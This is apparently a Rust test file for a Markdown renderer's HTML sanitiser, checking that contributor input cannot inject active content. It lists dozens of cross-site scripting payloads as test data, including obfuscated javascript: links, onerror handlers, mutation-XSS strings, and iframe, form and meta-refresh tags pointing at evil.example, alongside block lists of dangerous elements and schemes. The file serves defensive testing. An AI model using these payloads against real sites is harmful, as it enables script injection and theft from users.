//! Attacks by contributors that must not succeed.

use super::*;

/// Elements that run, load or send something.
#[rustfmt::skip]
const ELEMENTS: [&str; 17] = [
    "script", "svg", "iframe", "form", "base", "meta", "style", "object", "embed", "link", "button",
    "textarea", "title", "template", "noscript", "xmp", "video",
];

/// Attributes that are read, and never followed or loaded.
const TEXTS: [&str; 3] = ["alt", "aria-label", "title"];

#[track_caller]
pub(super) fn is_harmless(text: &str) {
    let html = html(text, &MarkdownOptions::default());
    for tag in html::tags(&html) {
        let is_danger = ELEMENTS.contains(&tag.name.as_str());
        assert!(!is_danger, "<{}> in {html}\nfrom {text}", tag.name);
        for html::HtmlAttribute { name, value, .. } in tag.attributes {
            let value = value
                .trim_start_matches(|it: char| it <= ' ')
                .to_lowercase();
            let schemes = ["javascript:", "vbscript:", "data:"];
            let is_danger = name.starts_with("on")
                || name == "style"
                || !TEXTS.contains(&name.as_str())
                    && schemes.iter().any(|it| value.starts_with(it));
            assert!(!is_danger, "{name}={value} in {html}\nfrom {text}");
        }
    }
}

#[test]
fn attacks_in_html_come_to_nothing() {
    for text in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "a <script>alert(1)</script> b",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x oNeRrOr=alert(1)//",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<div onclick=\"alert(1)\">x</div>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#115;cript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" &#1; javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext></p><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<p style=\"position:fixed\">x</p>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<form action=\"https://evil.example\"><input name=a><button>x</button></form>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<object data=\"x\"></object><embed src=\"x\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<xmp><script>alert(1)</script></xmp>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--><script>alert(1)</script>-->",
        "<?php echo '<script>alert(1)</script>' ?>",
    ] {
        is_harmless(text);
    }
}

#[test]
fn attacks_in_markdown_come_to_nothing() {
    for text in [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](\\javascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:x)",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<javascript:alert(1)>",
        "[x]\n\n[x]: javascript:alert(1)\n",
        "[x](a.md \"\\\" onmouseover=\\\"alert(1)\")",
        "[x](a.md\"onmouseover=\"alert(1))",
        "![\" onerror=\"alert(1)](a.png)",
        "# x {#\"onclick=\"alert(1)}",
        "# x {onclick=alert(1)}",
        "```\" onclick=\"alert(1)\nx\n```",
        "x[^\" onclick=\"a]\n\n[^\" onclick=\"a]: y\n",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\htmlStyle{position:fixed}{x}$",
        "$\\text{<script>alert(1)</script>}$",
        "$\\unknown<script>$",
        "$\\pmb{x}$",
    ] {
        is_harmless(text);
        // With HTML in the page everything goes through the sanitiser.
        is_harmless(&format!("<b>x</b>\n\n{text}"));
    }
}

#[test]
fn an_address_that_is_only_read_is_harmless() {
    is_harmless("![javascript:](a.png \"javascript:x\")");
}

#[test]
fn a_forged_mark_is_text() {
    let text = "<b title=\"\u{e000}0\u{e001}\">\u{e000}7\u{e001}</b> $\\text{\" onclick=\"x}$";
    is_harmless(text);
    let html = html(text, &MarkdownOptions::default());
    assert_eq!(html.matches("<math").count(), 1, "{html}");
    is_harmless("<b title=\"&#xe000;0&#xe001;\">x</b> $\\text{\" onclick=\"x}$");
}

#[test]
fn harmless_html_stays_with_all_that_markdown_makes() {
    check(
        "<div class=\"note\" id=\"n\">\n\n*a* <kbd>b</kbd>\n\n</div>\n",
        "<div class=\"note\" id=\"n\">\n<p><em>a</em> <kbd>b</kbd></p>\n</div>\n",
    );
    let body = "# A\n\n- [x] $x$ [^1]\n\n|a|\n|-:|\n|{{ chart() }}|\n\n```c\nx\n```\n\n![i](p.jpg)\n\n3. c\n\n[^1]: n\n";
    let with = html(&format!("{body}\n<b>x</b>\n"), &MarkdownOptions::default());
    let without = html(body, &MarkdownOptions::default());
    let notes = without.find("<section").expect("there is a footnote");
    let (text, notes) = without.split_at(notes);
    assert_eq!(with, format!("{text}<p><b>x</b></p>\n{notes}"));
}

#[test]
fn what_is_taken_out_is_one_warning() {
    use MarkdownFaultKind::HtmlRemoved;
    for (text, under, what) in [
        ("a <script>x</script> <form>", "<script", "<script>"),
        ("<p\nonclick='x'>\n", "<p\nonclick='x'", "onclick="),
        (
            "<a href=javascript:x>y</a>",
            "<a href=javascript:x",
            "href=",
        ),
    ] {
        let message = format!("HTML that could do harm was taken out, first `{what}`");
        assert_eq!(faults(text), [(HtmlRemoved, under, message)], "{text}");
    }
    assert_eq!(
        faults("<!-- x --> <b class=\"x\">y</b> <a href=\"x.md\" title='y'>z</a>"),
        []
    );
    let unsafe_link = faults("[x](javascript:y)");
    assert_eq!(unsafe_link[0].0, MarkdownFaultKind::UnsafeLink);
}

#[test]
fn html_can_be_escaped_or_allowed() {
    let with = |html_mode, text| {
        html(
            text,
            &MarkdownOptions {
                html: html_mode,
                ..MarkdownOptions::default()
            },
        )
    };
    assert_eq!(
        with(HtmlMode::Escape, "a <b>b</b>"),
        "<p>a &lt;b&gt;b&lt;/b&gt;</p>\n"
    );
    assert_eq!(
        with(HtmlMode::Escape, "<script>\nx\n</script>\n"),
        "<p>&lt;script&gt;\nx\n&lt;/script&gt;</p>\n"
    );
    assert_eq!(
        with(HtmlMode::Allow, "<video controls>\n</video>\n"),
        "<video controls>\n</video>\n"
    );
    let escaping = MarkdownOptions {
        html: HtmlMode::Escape,
        ..MarkdownOptions::default()
    };
    let scanned = scan("<a href=\"x.md\">", 0, &Formulas::default(), &escaping);
    assert_eq!(
        (scanned.links, scanned.faults, scanned.has_html),
        (vec![], vec![], true)
    );
}

#[test]
fn too_deep_a_nest_of_html_is_text() {
    let deep = "<div>".repeat(1001);
    assert_eq!(faults(&deep)[0].0, MarkdownFaultKind::HtmlRemoved);
    assert!(html(&deep, &MarkdownOptions::default()).starts_with("<p>&lt;div&gt;"));
    let flat = "<div></div>".repeat(1001);
    assert_eq!(faults(&flat), []);
    assert!(html(&flat, &MarkdownOptions::default()).starts_with("<div></div>"));
}

#[test]
fn what_is_no_html_is_shown_as_it_is_written() {
    let cases = [
        (
            "A <Ribbon type> is *one*.",
            "<p>A &lt;Ribbon type&gt; is <em>one</em>.</p>\n",
        ),
        ("<Ribbon>\n*x*\n", "<p>&lt;Ribbon&gt;\n<em>x</em></p>\n"),
        (
            "a <b>c</b> </Ribbon>",
            "<p>a <b>c</b> &lt;/Ribbon&gt;</p>\n",
        ),
        (
            "see <?x?> and <!X>",
            "<p>see &lt;?x?&gt; and &lt;!X&gt;</p>\n",
        ),
        (
            "<div>\n<Ribbon>\n</div>\n",
            "<div>\n&lt;Ribbon&gt;\n</div>\n",
        ),
        (
            "`<Ribbon>` &lt;x>",
            "<p><code>&lt;Ribbon&gt;</code> &lt;x&gt;</p>\n",
        ),
    ];
    for (text, expected) in cases {
        check(text, expected);
        assert_eq!(faults(text), [], "{text}");
    }
    let allowing = MarkdownOptions {
        html: HtmlMode::Allow,
        ..MarkdownOptions::default()
    };
    assert_eq!(
        html("<my-map>x</my-map>", &allowing),
        "<p><my-map>x</my-map></p>\n"
    );
}
